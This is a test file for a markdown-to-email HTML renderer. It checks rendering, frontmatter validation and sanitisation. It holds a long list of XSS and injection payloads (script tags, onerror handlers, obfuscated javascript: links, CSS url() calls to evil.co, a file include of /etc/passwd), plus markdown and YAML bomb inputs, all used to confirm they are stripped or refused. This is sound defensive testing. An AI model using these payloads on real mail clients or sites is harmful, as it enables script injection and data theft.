import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { MarkdownProblem } from '../../src/mail/content/markdown-values.ts';
import { renderMarkdown } from '../../src/mail/content/render-markdown.ts';

const NONCE = '0123456789abcdef';

const rendered = (markdown: string, title = 'Subject') => renderMarkdown(markdown, title, NONCE);

const refusal = async (markdown: string): Promise<string> => {
  const problem = await rendered(markdown).catch((reason: unknown) => reason);
  if (!(problem instanceof MarkdownProblem))
    throw problem instanceof Error ? problem : new Error('it was rendered');
  return problem.message;
};

const ELEMENTS = new Set(
  'html head title meta style noscript xml body div table tbody tr td th p a img span br hr h1 h2 h3 h4 h5 h6 blockquote pre code kbd samp b strong i em u s del ins mark small sub sup abbr cite q ul ol li dl dt dd caption thead tfoot'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'http-equiv content name type xmlns xmlns:v xmlns:o lang dir style class role aria-label aria-roledescription align valign bgcolor background border cellpadding cellspacing width height href target src alt title start colspan rowspan media'.split(
    ' ',
  ),
);

/** Reads the html as a mail program would and names all in it that runs, loads or escapes. */
async function dangersIn(html: string): Promise<string[]> {
  const dangers: string[] = [];
  const judgeStyle = (css: string) => {
    const loads = css.replace(/url\('https?:\/\/[\w./?&;=%~+#:@,!*$-]*'\)/g, '');
    if (/url|@import|expression|javascript|behaviou?r|\\|<|-moz-binding|@font-face/i.test(loads))
      dangers.push(`style: ${css}`);
  };
  const judgeAttribute = (name: string, value: string) => {
    if (!ATTRIBUTES.has(name)) dangers.push(`attribute ${name}="${value}"`);
    if (name === 'style') judgeStyle(decode(value));
    const allowed =
      name === 'href' ? /^(?:https?:|mailto:|tel:|[^:]*$|\{\{)/i : /^(?:https?:\/\/|cid:|[^:]*$|\{\{)/i;
    if (['href', 'src', 'background'].includes(name) && !allowed.test(decode(value).trim()))
      dangers.push(`${name}="${value}"`);
  };
  await new HTMLRewriter()
    .on('*', {
      element(element) {
        if (!ELEMENTS.has(element.tagName)) dangers.push(`<${element.tagName}>`);
        for (const [name, value] of element.attributes) judgeAttribute(name, value);
      },
    })
    .onDocument({
      comments({ text }) {
        if (
          !/^(?:\[if [^\]]*\]>[\s\S]*<!\[endif\]|\[if !mso\]><!|<!\[endif\]|\[if \(gte mso 9\)\|\(IE\)\]>[\s\S]*)$/.test(
            text,
          )
        )
          dangers.push(`comment: ${text}`);
        if (/<(?:script|iframe|link|img|object|v:imagedata)|javascript:|\son\w+\s*=/i.test(text))
          dangers.push(`comment: ${text}`);
      },
    })
    .on('style', {
      text({ text }) {
        judgeStyle(text.replace(/<!--|-->/g, ''));
      },
    })
    .transform(new Response(html))
    .text();
  return dangers;
}

const decode = (value: string): string =>
  value.replace(
    /&(?:#x([\da-f]+)|#(\d+)|(amp|quot|lt|gt|apos|colon|Tab|NewLine));?/gi,
    (_, hex, decimal, name) => {
      if (hex) return String.fromCodePoint(Number.parseInt(hex, 16));
      if (decimal) return String.fromCodePoint(Number(decimal));
      return (
        { amp: '&', quot: '"', lt: '<', gt: '>', apos: "'", colon: ':' }[String(name).toLowerCase()] ?? ''
      );
    },
  );

describe('rendering markdown', () => {
  test('becomes an html and a text part', async () => {
    const { html, text } = await rendered(
      '# Code aB3x9\n\nDear *Ada*,\n\n- tea\n- milk\n\n[Pay](https://x.co/?a=1&b=2){button}\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\n![Map](https://x.co/m.png)',
    );
    expect(html).toStartWith('<!doctype html>');
    expect(html).toContain('<h1>Code aB3x9</h1>');
    expect(html).toContain('<em>Ada</em>');
    expect(html).toContain('href="https://x.co/?a=1&amp;b=2"');
    expect(html).toContain('src="https://x.co/m.png"');
    expect(text).toBe(
      'Code aB3x9\n\nDear Ada,\n\n- tea\n- milk\n\nPay (https://x.co/?a=1&b=2)\n\n> quoted\n\na  b\n1  2\n\n---\n\n[Map]',
    );
    expect(await dangersIn(html)).toEqual([]);
  });

  test('is titled by the subject and says nothing of the language that it does not know', async () => {
    const { html } = await rendered('Hi', 'Tea & "milk" for $& $1 <b>');
    expect(html).toContain('<title>Tea &amp; &quot;milk&quot; for $&amp; $1 &lt;b&gt;</title>');
    expect(html).toContain('<html lang="und"');
  });

  test('links no font, style sheet or other file', async () => {
    const { html } = await rendered(
      '# Hi\n\n**there** `code`\n\n<span style="font-family:Roboto,Lato,Ubuntu">x</span>',
    );
    expect(html).not.toMatch(/https?:\/\/(?!www\.w3\.org\/1999\/xhtml")/);
    expect(html).not.toMatch(/@import|<link|Inter|Roboto/);
    expect(html).toContain("font-family:Arial, 'Helvetica Neue', Helvetica, sans-serif");
  });

  test('keeps template tags, in links and buttons too', async () => {
    const { html, text } = await rendered(
      '# Hi {{ first_name }}\n\n{{ a_b }} and {% if x > 1 %}[open]({{ url }}){% endif %} `{{ code }}`\n\n[Go]({{ button_url }}){button}',
    );
    expect(html).toContain('<h1>Hi {{ first_name }}</h1>');
    expect(html).toContain(
      '{{ a_b }} and {% if x &gt; 1 %}<a href="{{ url }}">open</a>{% endif %} <code>{{ code }}</code>',
    );
    expect(html).toContain('href="{{ button_url }}"');
    expect(text).toBe(
      'Hi {{ first_name }}\n\n{{ a_b }} and {% if x > 1 %}open ({{ url }}) {% endif %} {{ code }}\n\nGo ({{ button_url }})',
    );
  });

  test('may hold harmless html', async () => {
    const { html } = await rendered(
      'a<br>b <u>c</u> <span style="color:#f00;position:fixed">d</span> <img src="cid:logo" width="20" onload="x">',
    );
    expect(html).toContain(
      'a<br />b <u>c</u> <span style="color:#f00">d</span> <img src="cid:logo" width="20" />',
    );
  });

  test('may have blocks with attributes', async () => {
    const { html } = await rendered(
      '::: callout bg=#ffeecc center compact\nNote\n[Go](https://x.co){button.danger width=full}\n:::\n\n::: hero https://x.co/a,b(1).png color=white\n# Big\n:::\n\n![Map](https://x.co/m.png "Title"){width=200 border-radius="8px"}',
    );
    expect(html).toContain('background-color:#ffeecc');
    expect(html).toContain("url('https://x.co/a,b%281%29.png')");
    expect(html).toContain('alt="Map"');
    expect(html).toContain('title="Title"');
    expect(html).toContain('width="200"');
    expect(await dangersIn(html)).toEqual([]);
  });

  test('of nothing to show is an email of nothing', async () => {
    expect((await rendered('<!-- nothing -->')).text).toBe('');
  });
});

describe('frontmatter', () => {
  test('sets theme, preheader and language', async () => {
    const { html, text } = await rendered(
      "---\npreheader: Tea & \"milk\"\nbrand_color: '#0b5fff'\nfont_family: Georgia, 'Times New Roman', serif\nline_height: 1.4\nlang: de-AT\ninternal_id: 7\n---\n# Hi\n---\nnot: frontmatter\n---\n",
    );
    expect(html).toContain('Tea &amp; &quot;milk&quot;&#847;');
    expect(html).toContain('a { color: #0b5fff; }');
    expect(html).toContain("font-family:Georgia, 'Times New Roman', serif;font-size:16px;line-height:1.4");
    expect(html).toContain('<html lang="de-AT"');
    expect(text).toContain('Hi');
    expect(text).toContain('not: frontmatter');
    expect(html + text).not.toContain('internal');
  });

  test('can choose the dark theme', async () => {
    expect((await rendered('---\ntheme: dark\n---\nHi')).html).toContain('background-color:#09090b');
  });

  test.each([
    ['brand_color', 'red;}</style><script>alert(1)</script>'],
    ['brand_color', "'red; background: url(https://evil.co)'"],
    ['background_color', '\'#fff"><mj-raw><script>x</script></mj-raw><mj-x y="\''],
    ['body_color', '[red]'],
    ['card_color', '{a: 1}'],
    ['font_family', '\'Arial" /><mj-raw>x</mj-raw><mj-x y="\''],
    ['font_family', "'Arial; src: url(https://evil.co)'"],
    ['font_size', '16'],
    ['content_width', "'600px\"'"],
    ['border_radius', "'8px; x'"],
    ['line_height', "'1.6}'"],
    ['theme', 'neon'],
    ['lang', '\'de" onload="x\''],
    ['preheader', '[a, b]'],
    ['preheader', 'x'.repeat(501)],
    ['fonts', '{ Evil: https://evil.co/font.css }'],
  ])('is refused for a wrong %s: %s', async (name, value) => {
    const message = await refusal(`---\n${name}: ${value}\n---\nHi`);
    expect(message).toContain(name);
    expect(message).not.toContain('evil');
  });

  test.each(['a: [', 'a: *b', '\t- x: y: z'])('that is no YAML is refused: %j', async (yaml) => {
    expect(await refusal(`---\n${yaml}\n---\nHi`)).toContain('YAML');
  });

  test('is not seen in text between two rules', async () => {
    expect((await rendered('---\nHello there\n---\nAda')).text).toContain('Hello there');
    expect((await rendered('---\n- a\n- b\n---\nAda')).text).toContain('- a');
  });

  test('writes its preheader in no colour, which filters of spam compare with the background', async () => {
    const { html } = await rendered('---\npreheader: Three new lamps\n---\nHi');
    const [, style] = /<div style="([^"]*)">Three new lamps/.exec(html) ?? [];
    expect(style).toStartWith('display:none;');
    expect(style).not.toContain('color');
  });

  test('shows its preheader as text', async () => {
    const { html } = await rendered(
      '---\npreheader: "</mj-preview></mj-head><mj-raw><script>x</script></mj-raw> {{ name }}"\n---\nHi',
    );
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('{{ name }}&#847;');
    expect(await dangersIn(html)).toEqual([]);
  });
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.co/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://x.co/a.png" style="background:url(https://evil.co)">',
  '<img src="https://x.co/a.png" float="left;background:url(https://evil.co)" valign="x">',
  '<img src="//evil.co/a.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><script>x</script></svg>',
  '<iframe src="https://evil.co"></iframe><object data=x></object><embed src=x>',
  '<style>@import url(https://evil.co/x.css);</style>',
  '<link rel=stylesheet href=https://evil.co/x.css><base href=https://evil.co><meta http-equiv=refresh content="0;https://evil.co">',
  '<form action=https://evil.co><input name=a><button>b</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,x">x</a><a href="file:///etc/passwd">x</a>',
  '<p style="color:red;background:url(https://evil.co)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:r\\65 d;width:url(x)">x</p>',
  '<p onclick="x" onmouseover=y>x</p>',
  '</mj-text></mj-column></mj-section></mj-body><mj-raw><script>alert(1)</script></mj-raw>',
  '<mj-raw><script>alert(1)</script></mj-raw><mj-include path="/etc/passwd" />',
  '<mj-style>@import url(https://evil.co)</mj-style>',
  ']]><script>alert(1)</script><![CDATA[',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<!--EMAILMD:HERO_OPEN url="x\') url(https://evil.co)"-->x<!--EMAILMD:HERO_CLOSE-->',
  '<!--EMAILMD:CALLOUT_OPEN bg="red;background:url(https://evil.co)" color="x"-->x<!--EMAILMD:CALLOUT_CLOSE-->',
  '<!--EMAILMD:BUTTON_0-->',
  '[x](javascript:alert(1))',
  '[x](javascript:alert(1)){button}',
  '[x](JaVaScRiPt&colon;alert(1)){button}',
  '[x](data:text/html;base64,PHNjcmlwdD4=){button}',
  '[x](https://x.co "t\\" onclick=\\"x"){button color="red;background:url(https://evil.co)" border-radius="0\\"><mj-raw>x" width=9}',
  '[x](https://x.co){button onclick=alert(1) fallback="<script>x</script>"}',
  '<p><a href="https://x.co" class="button" button color=\'"><script>x</script>\'>b</a></p>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://x.co/a.png "t\\"onerror=\\"x"){onerror=alert(1) style="x:url(https://evil.co)"}',
  '[![x](https://x.co/a.png){width="1\\" onerror=\\"x"}](javascript:alert(1))',
  'x{onclick=alert(1) style="background:url(https://evil.co)"}',
  '# x {onclick=alert(1)}',
  '::: hero javascript:alert(1) color=red;x\nx\n:::',
  '::: hero https://x.co/\');background:url(https://evil.co/ color="x\nx\n:::',
  "::: hero https://x.co/{{'});background:url(https://evil.co}}\nx\n:::",
  '::: hero data:image/svg+xml,x\nx\n:::',
  '::: callout bg=red;} color=url(https://evil.co) border-radius=1px" padding=x\nx\n:::',
  '::: footer align=left"><script>x</script>\nx\n:::',
  '{{ <script>alert(1)</script> }}',
  '[x]({{"onclick="alert(1)}}){button}',
  '<a href="{{"onclick="alert(1)}}">x</a>',
  '![x]({{"onerror="alert(1)}})',
  '$'.concat('{<img src=x onerror=alert(1)>} {%<script>%} %%<script>%%'),
  'EMAILMDTPL0ENDTPL EMAILMD&#84;PL0ENDTPL TAG0123456789abcdefN0E',
  '<https://x.co/"onclick="x> <javascript:alert(1)>',
  '| <script>x</script> | b |\n|---|:-:|\n| <td onclick=x> | `</td><script>` |',
  '<table><tr><td style="background:url(https://evil.co)" background="https://evil.co">x</td></tr></table>',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '<blockquote>',
  '<plaintext><xmp><noscript><title><textarea>',
];

describe('unsafe markup in markdown', () => {
  test.each(ATTACKS)('is gone: %s', async (attack) => {
    const { html, text } = await rendered(`Before\n\n${attack}\n\nAfter`);
    expect(await dangersIn(html)).toEqual([]);
    expect(text).toStartWith('Before');
  });

  test('is gone in every mixture', async () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...ATTACKS),
        fc.constantFrom(
          '\n\n',
          '\n',
          ' ',
          '> ',
          '- ',
          '::: callout\n',
          '\n:::\n',
          '{{',
          '}}',
          '"',
          "'",
          '`',
          '<',
          '>',
          '](',
          '[',
        ),
      ),
      { maxLength: 12 },
    );
    await fc.assert(
      fc.asyncProperty(pieces, async (parts) => {
        const result = await rendered(parts.join('')).catch((reason: unknown) => {
          if (reason instanceof MarkdownProblem) return null;
          throw reason;
        });
        if (result) expect(await dangersIn(result.html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('would be noticed by these tests', async () => {
    for (const html of [
      '<script>x</script>',
      '<p onclick="x">',
      '<a href="javascript:x">',
      '<a href="java&#115;cript:x">',
      '<p style="background:url(//evil.co)">',
      '<style>@import "x"</style>',
      '<!-- <script> -->',
      '<link rel="x">',
    ]) {
      expect([html, await dangersIn(html)]).not.toEqual([html, []]);
    }
  });
});

test.each(['{{', '{%', '${', '%%', '<%'])(
  '200 openings %s without an end are text, and one more is refused',
  async (opening) => {
    const many = (count: number): string => `${opening}a `.repeat(count);
    // Two of these are a tag.
    const most = opening === '%%' ? 1 : 200;
    expect((await rendered(many(most))).text.split(opening)).toHaveLength(most + 1);
    if (most === 200) await expect(rendered(many(201))).rejects.toThrow('more than 200 have no end');
  },
);

describe('a markdown bomb of', () => {
  const long = 'x'.repeat(100_000);

  test.each([
    ['references', `[a]: https://x.co/${long}\n\n${'[a] '.repeat(30_000)}`],
    ['references in a quote', `> [a]: https://x.co/\n> "${long}"\n\n${'[a]'.repeat(40_000)}`],
    ['template tags', `[a]: /{{${'x'.repeat(900)}}}\n\n${'[a] '.repeat(4_000)}`],
    ['blocks', '[a](https://x.co){button}\n\n'.repeat(501)],
    ['markers', `[a](https://x.co/${long}){button}\n\n${'<!--EMAILMD:BUTTON_0-->\n\n'.repeat(600)}`],
    ['frontmatter', `---\na: ${long}\n---\nHi`],
  ])('%s is refused', async (_, markdown) => {
    expect(await refusal(markdown)).toStartWith('Must ');
  });

  test.each([
    [
      'placeholders',
      `{{${long}}}${'EMAILMDTPL0ENDTPL '.repeat(5_000)}${'EMAILMD&#84;PL0ENDTPL '.repeat(3_000)}`,
    ],
    ['an unclosed quote', '<blockquote>x'],
    ['a wide column', `|a|\n|-|\n|${long}|\n${'|a|\n'.repeat(200)}`],
    [
      'YAML aliases',
      `---\na: &a [x, x, x, x]\n${Array.from({ length: 20 }, (_, i) => `b${i}: &b${i} [*${i ? `b${i - 1}` : 'a'}, *a]`).join('\n')}\n---\nHi`,
    ],
  ])('%s is rendered', async (_, markdown) => {
    const { html } = await rendered(markdown);
    expect(html.length).toBeLessThan(markdown.length * 3 + 100_000);
  });
});
